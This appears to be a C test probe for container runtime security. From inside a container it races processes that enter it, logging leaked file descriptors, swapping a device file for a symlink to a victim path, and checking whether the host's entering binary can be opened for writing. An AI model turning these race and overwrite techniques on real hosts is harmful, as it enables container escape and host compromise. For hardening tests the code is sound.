// What a container's process does to one that enters it. Prints "watching" first.
//   descriptors FILE   a line in FILE for each descriptor above 2 of another process that it could see
//                      (CAP_KILL stops that process as soon as it has the container's user namespace)
//   swap FILE VICTIM   puts a link to VICTIM in the place of the device FILE, whenever it is made
//   executable FILE    "opened" for the first program of the host's that it could open, and a line for each
//                      it could open for writing
// Nothing is ever written to what it opens.
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void look_at_descriptors(FILE* seen, int pid) {
  char path[64];
  char program[4096] = "";
  // Whoever may read this link may trace the process (ptrace(2), PTRACE_MODE_READ).
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  if (readlink(path, program, sizeof(program) - 1) > 0 && strncmp(program, "/bin/", 5) != 0) {
    fprintf(seen, "%d is open to a tracer while it is still %s\n", pid, program);
  }
  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
  DIR* directory = opendir(path);
  if (directory == NULL) return;
  struct dirent* entry;
  while ((entry = readdir(directory)) != NULL) {
    char target[4096];
    if (!isdigit(entry->d_name[0]) || atoi(entry->d_name) < 3) continue;
    ssize_t size = readlinkat(dirfd(directory), entry->d_name, target, sizeof(target) - 1);
    if (size <= 0) continue;
    target[size] = 0;
    // A program that already is the container's opens files of the container.
    if (!strncmp(target, "/tmp/", 5) || !strncmp(target, "/bin/", 5) || !strncmp(target, "/etc/", 5))
      continue;
    fprintf(seen, "%d %s %s\n", pid, entry->d_name, target);
  }
  closedir(directory);
}

// Pids are given out in order: the next ones are those of who enters next.
static void wait_for_the_next(FILE* seen) {
  int next = getpid() + 1;
  while (1) {
    for (int pid = next; pid < next + 4; ++pid) {
      if (kill(pid, SIGSTOP) != 0) {
        // EPERM: it is there, and not in the user namespace yet.
        for (int i = 0; i < 20000 && errno == EPERM && kill(pid, SIGSTOP) != 0; ++i) continue;
        if (errno != EPERM && errno != 0) continue;
      }
      usleep(200);
      look_at_descriptors(seen, pid);
      kill(pid, SIGCONT);
      next = pid + 1;
      break;
    }
  }
}

static void swap(const char* file, const char* victim) {
  char link[4096];
  snprintf(link, sizeof(link), "%s.link", file);
  while (1) {
    (void)!symlink(victim, link);
    struct stat info;
    while (lstat(file, &info) != 0 || !S_ISCHR(info.st_mode)) continue;
    rename(link, file);
  }
}

static void look_at_executable(FILE* seen, int pid) {
  char path[64];
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  char name[4096] = "";
  if (readlink(path, name, sizeof(name) - 1) > 0 && !strncmp(name, "/bin/", 5)) return;
  int exe = open(path, O_RDONLY | O_CLOEXEC);
  if (exe < 0) return;
  static int opened;
  if (opened++ == 0) fputs("opened\n", seen);
  char again[64];
  snprintf(again, sizeof(again), "/proc/self/fd/%d", exe);
  // While it runs it cannot be written (ETXTBSY): the attack waits for its end.
  for (int i = 0; i < 2000; ++i) {
    int fd = open(again, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
      fprintf(seen, "%d %s is open for writing\n", pid, name);
      close(fd);
      break;
    }
    if (errno != ETXTBSY) break;
    usleep(1000);
  }
  close(exe);
}

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  if (!strcmp(argv[1], "swap") && argc > 3) swap(argv[2], argv[3]);
  FILE* seen = fopen(argv[2], "a");
  if (seen == NULL) return 3;
  setvbuf(seen, NULL, _IOLBF, 0);
  fputs("watching\n", seen);
  if (!strcmp(argv[1], "descriptors")) wait_for_the_next(seen);
  while (1) {
    DIR* processes = opendir("/proc");
    struct dirent* entry;
    while (processes != NULL && (entry = readdir(processes)) != NULL) {
      int pid = atoi(entry->d_name);
      if (pid <= 1 || pid == getpid()) continue;
      if (!strcmp(argv[1], "executable")) look_at_executable(seen, pid);
    }
    if (processes != NULL) closedir(processes);
  }
}
